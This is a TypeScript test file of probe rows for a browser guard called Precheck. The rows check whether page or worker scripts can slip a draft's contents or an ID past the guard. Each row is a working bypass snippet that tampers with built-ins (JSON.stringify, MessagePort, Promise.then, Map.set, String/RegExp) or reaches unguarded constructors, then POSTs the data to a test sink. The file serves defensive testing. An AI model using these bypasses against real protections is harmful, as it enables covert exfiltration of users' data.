/**
 * Probe rows for a page's workers (lib/intercept/main/hooks/workers.ts and worker-prelude.ts), in the
 * style of gate-built-ins.e2e.test.ts and run by its harness (../probe-page.ts: page script with
 * `draft`, `ID`, `sink(name)`, `RAW` and `inWorker(code)`). Without Precheck each must deliver the
 * ID, and with Precheck nothing carrying it may arrive. Each was written against b177628, the build
 * before the worker's built-ins were kept, where reading its code says it delivers the ID with
 * Precheck too (not yet run in a browser: the unit tests test/intercept/worker*.test.ts fail so on it).
 *
 * WORKER_REPLACED: page code, or the worker's own script, replaces a built-in the worker's guard
 * decided with. The page's side built the prelude with its JSON and talked to the worker through its
 * MessageChannel and MessagePort; the worker's side waited for answers through its Promise, Map and
 * onmessage, and judged a socket's or event stream's URL with its String and RegExp methods.
 *
 * WORKER_UNGUARDED: the guard reached past without replacing anything: the original constructor one
 * property away, fetch where WebIDL puts it, and a guard port the worker's script hands itself.
 *
 * Every row puts back what it replaced (the next case loads the page afresh anyway).
 */

/** Page script that runs `code` inside a worker the page starts, and returns its outcome. */
const inWorker = (code: string) => `return inWorker(${JSON.stringify(code)});`;

/** Worker script: a POST of the draft. */
const POST = (name: string) => `await fetch(sink('${name}'), { method: 'POST', body: 'content=' + encodeURIComponent(draft) });`;

/** Worker script: an event stream to `url` (page script expression), closed once its request left. */
const EVENT_STREAM = (open: string) => `const es = ${open}; await new Promise((r) => setTimeout(r, 800)); es.close();`;

export const WORKER_REPLACED: [label: string, code: string][] = [
  [
    "the page's JSON.stringify puts code of its own before the prelude (the worker's fetch kept unguarded)",
    `const J = JSON.stringify; JSON.stringify = function (v) { return typeof v === 'string' && v.startsWith('blob:') ? '(self.f0 = self.fetch, ' + J(v) + ')' : J.apply(this, arguments); };
     let p; try { p = inWorker(${JSON.stringify("await (self.f0 || fetch)(sink('w-json'), { method: 'POST', body: 'content=' + encodeURIComponent(draft) });")}); } finally { JSON.stringify = J; } return await p;`,
  ],
  [
    "MessageChannel's port2 getter hands the worker a port of the page's, which answers every question with a pass",
    `const d = Object.getOwnPropertyDescriptor(MessageChannel.prototype, 'port2');
     const mine = new MessageChannel(); mine.port1.onmessage = (e) => mine.port1.postMessage({ id: e.data.id, answer: { pass: true } }); const theirs = mine.port2;
     Object.defineProperty(MessageChannel.prototype, 'port2', { configurable: true, get() { return this === mine ? d.get.call(this) : theirs; } });
     let p; try { p = inWorker(${JSON.stringify(POST('w-port2'))}); } finally { Object.defineProperty(MessageChannel.prototype, 'port2', d); } return await p;`,
  ],
  [
    "MessagePort.prototype.postMessage turns the guard's answer to the worker into a pass",
    `const p0 = MessagePort.prototype.postMessage;
     MessagePort.prototype.postMessage = function (m, t) { return p0.call(this, m && typeof m === 'object' && 'answer' in m ? { ...m, answer: { pass: true } } : m, t); };
     try { return await inWorker(${JSON.stringify(POST('w-answer'))}); } finally { MessagePort.prototype.postMessage = p0; }`,
  ],
  [
    "Object.prototype.formData: the worker's text body judged as an empty form",
    `Object.defineProperty(Object.prototype, 'formData', { configurable: true, writable: true, value: [] });
     try { return await inWorker(${JSON.stringify(POST('w-formdata'))}); } finally { delete Object.prototype.formData; }`,
  ],
  [
    "the worker's Promise.prototype.then turns every answer into a pass",
    inWorker(`const t = Promise.prototype.then; Promise.prototype.then = function (f, r) { return t.call(this, f && ((v) => f(v && typeof v === 'object' && 'pass' in v ? { pass: true } : v)), r); };
     try { ${POST('w-then')} } finally { Promise.prototype.then = t; }`),
  ],
  [
    "the worker's Map.prototype.set hands each request waiting for its answer a pass",
    inWorker(`const s = Map.prototype.set; Map.prototype.set = function (k, v) { if (typeof k === 'number' && typeof v === 'function') v({ pass: true }); return s.call(this, k, v); };
     try { ${POST('w-map')} } finally { Map.prototype.set = s; }`),
  ],
  [
    "the worker's MessagePort onmessage setter hands the prelude answers of the script's making",
    inWorker(`const d = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
     Object.defineProperty(MessagePort.prototype, 'onmessage', { configurable: true, get: d.get, set(h) { d.set.call(this, (e) => h({ data: { id: e.data.id, answer: { pass: true } } })); } });
     try { ${POST('w-onmessage')} } finally { Object.defineProperty(MessagePort.prototype, 'onmessage', d); }`),
  ],
  [
    "the worker's String and RegExp methods: an event stream's query looks like no text",
    inWorker(`const [s0, i0, t0] = [String.prototype.split, String.prototype.includes, RegExp.prototype.test];
     String.prototype.split = function () { return ['']; }; String.prototype.includes = function () { return false; }; RegExp.prototype.test = function () { return false; };
     let open; try { open = new EventSource(sink('w-strings') + '?c=' + ID); } finally { String.prototype.split = s0; String.prototype.includes = i0; RegExp.prototype.test = t0; }
     ${EVENT_STREAM('open')}`),
  ],
];

export const WORKER_UNGUARDED: [label: string, code: string][] = [
  [
    'Worker.prototype.constructor: the unguarded Worker',
    `const src = 'fetch(' + JSON.stringify(sink('w-ctor')) + ', { method: "POST", body: "content=" + encodeURIComponent(' + JSON.stringify(draft) + ') }).then(() => postMessage("ok"), (e) => postMessage("threw: " + e.message));';
     const w = new Worker.prototype.constructor(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
     return await new Promise((r) => { w.onmessage = (e) => r(e.data); w.onerror = (e) => r('error: ' + e.message); });`,
  ],
  [
    "the worker's EventSource.prototype.constructor: the unguarded EventSource",
    inWorker(EVENT_STREAM("new EventSource.prototype.constructor(sink('w-es-ctor') + '?c=' + ID)")),
  ],
  [
    "the worker's fetch called where WebIDL puts it (WorkerGlobalScope.prototype), past the copy on its global",
    inWorker(`let owner = null; for (let o = self; o; o = Object.getPrototypeOf(o)) if (Object.getOwnPropertyDescriptor(o, 'fetch')) owner = o;
     await owner.fetch.call(self, sink('w-proto-fetch'), { method: 'POST', body: 'content=' + encodeURIComponent(draft) });`),
  ],
  [
    "the worker's own message with the marker and a port that answers every question with a pass",
    inWorker(`const c = new MessageChannel(); c.port1.onmessage = (e) => c.port1.postMessage({ id: e.data.id, answer: { pass: true } });
     self.dispatchEvent(new MessageEvent('message', { data: { __precheckGuardPort: true }, ports: [c.port2] }));
     try { ${POST('w-forged')} } finally { c.port1.close(); }`),
  ],
];
